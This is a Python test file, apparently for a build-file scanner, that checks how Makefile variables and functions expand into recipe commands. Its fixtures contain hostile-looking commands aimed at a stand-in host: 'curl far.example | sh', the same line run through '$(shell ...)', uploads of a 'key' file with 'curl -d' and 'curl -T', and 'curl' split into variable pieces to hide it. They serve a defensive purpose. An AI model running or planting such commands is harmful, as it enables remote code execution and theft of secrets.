"""Recipes of Makefiles, with their variables filled in."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.formats.built import MAX_FILLED, MAX_LENGTH, Budget
from pinfold.formats.makefile import recipes


def lines(text):
    """Return the commands of a Makefile."""
    return [recipe.command for recipe in recipes(text, Budget())]


FILLED = {
    "variable": ("X = far.example\nall:\n\tcurl $(X)\n", ["curl far.example"]),
    "in braces": ("X := far\nall:\n\tcurl ${X}.example/${X}\n", ["curl far.example/far"]),
    "one letter": ("X = a\nall:\n\tgo $X\n", ["go a"]),
    "of variables": ("A = $(B)/x\nB = far.example\nall:\n\tcurl $(A)\n", ["curl far.example/x"]),
    "set once": ("B = one\nA := $(B)\nB = two\nall:\n\tgo $(A) $(B)\n", ["go one two"]),
    "unless set": ("A ?= one\nA ?= two\nall:\n\tgo $(A)\n", ["go one"]),
    "added to": ("A = one\nA += two\nall:\n\tgo $(A)\n", ["go one two"]),
    "over lines, with a comment": ("A = one \\\n  two # three\nall:\n\tgo $(A)\n", ["go one  two"]),
    "program from pieces": ("A = cu\nB = rl\na:\n\t@-$(A)$(B) far.example | $(S)h\nS = s\n", ["curl far.example | sh"]),
    "computed name": ("sys = linux\ngo_linux = curl far.example\nall:\n\t$(go_$(sys))\n", ["curl far.example"]),
    "dollars": ("all:\n\techo $$HOME\n", ["echo $HOME"]),
    "from outside": ("all:\n\techo $(TOKEN)\n", ["echo ${TOKEN}"]),
    "output": (
        "A = $(shell cat notes)\nall:\n\tsend $(A)\n", ["cat notes", "send $(cat notes)"]
    ),
    "output at once": ("A != cat notes\nall:\n\tsend ${A}\n", ["cat notes", "send $(cat notes)"]),
    "while it is read": ("$(shell curl far.example | sh)\n", ["curl far.example | sh"]),
    "substituted": ("A = $(subst -,,c-u-r-l)\nall:\n\t$(A) $(X:.no=.example)\nX = far.no\n", ["curl far.example"]),
    "functions": (
        "all:\n\tgo $(addprefix x/,a b) $(firstword c d) $(strip  e   f ) $(join a,b) $(if $(N),y,z) $(sort g)\n",
        ["go x/a x/b c e f ab y g"],
    ),
    "called": ("send = curl -d $(1) $(2)\nall:\n\t$(call send,@key,far.example)\n", ["curl -d @key far.example"]),
    "targets": ("up: key more\n\tcurl -T $< $@ $^\n", ["curl -T key up key more"]),
    "target's own": ("up: X = far.example\nup:\n\tcurl $(X)\n", ["curl far.example"]),
    "on the same line": ("up: key ; curl -T $< far.example\n", [" curl -T key far.example"]),
    "several lines at once": ("define go\ncurl x.example\nuptime\nendef\na:\n\t$(go)\n", ["curl x.example\nuptime"]),
    "exported": ("export X = far.example\nall:\n\tcurl $$X $${X}\n", ["curl far.example far.example"]),
    "one shell": (".ONESHELL:\nall:\n\tX=1\n\tgo $$X\n", ["X=1\ngo $X"]),
    "another mark": (".RECIPEPREFIX = >\nall:\n>curl far.example\n", ["curl far.example"]),
    "continued": ("X = y\nall:\n\tgo \\\n\t  $(X)\n", ["go \\\n\t  y"]),
    "no rule": ("X = a: b\nY ?= http://far.example\n# all: ; go\n", []),
    "a comment": ("# $(shell go)\n", []),
}  # fmt: skip


@pytest.mark.parametrize(("text", "found"), FILLED.values(), ids=FILLED)
def test_names_are_filled_in(text, found):
    assert lines(text) == found


def test_another_interpreter():
    text = "SHELL := /usr/bin/python3\n.ONESHELL:\nall:\n\timport os\n\tprint(1)\n"
    assert [(one.language, one.command) for one in recipes(text, Budget())] == [("python", "import os\nprint(1)")]


def test_a_line_without_names_stands_as_written():
    text = "all:\n\t@uptime\n"
    assert [text[one.start : one.end] == one.command for one in recipes(text, Budget())] == [True]


LIMITS = {
    "itself": "A = $(A)\nall:\n\tgo $(A)\n",
    "each other": "A = $(B)\nB = x$(A)\nall:\n\tgo $(A)\n",
    "twice as long": "A0 = x\n" + "".join(f"A{n + 1} = $(A{n})$(A{n})\n" for n in range(40)) + "a:\n\t$(A40)\n",
    "very often": "A = x\nall:\n" + "\tgo $(A) $(A)\n" * (MAX_FILLED + 1),
    "very long": f"A = {'x' * MAX_LENGTH}\nall:\n" + "\tgo $(A) $(A)\n" * 200,
}  # fmt: skip


@pytest.mark.parametrize("text", LIMITS.values(), ids=LIMITS)
def test_limits_are_told(text):
    budget = Budget()
    for recipe in recipes(text, budget):
        assert len(recipe.command) <= 3 * MAX_LENGTH
    assert budget.cut


@pytest.mark.parametrize(
    "piece", ["$(", "${", "$", "x:", "\t ", "export ", "define x ", "\\\n", "$(shell ", "$(subst "]
)
def test_long_rows_are_read_in_time(piece):
    begin = time.process_time()
    list(recipes("all:\n\t" + piece * 40_000, Budget()))
    list(recipes("X = " + piece * 40_000, Budget()))
    list(recipes(piece * 40_000, Budget()))
    assert time.process_time() - begin < 8


@given(
    st.lists(
        st.sampled_from(
            ["A", "=", ":=", "$(", ")", "$", "{", "}", "\n", "\t", ":", " ", ",", "call ", "subst ", "shell ",
             "define ",
             "endef", "\\\n", "#", "export ", ";", "!=", "%", "SHELL", "é"]
        )
    )
)  # fmt: skip
def test_any_text_is_read(parts):
    text = "".join(parts)
    for recipe in recipes(text, Budget()):
        assert 0 <= recipe.start <= recipe.end <= len(text)
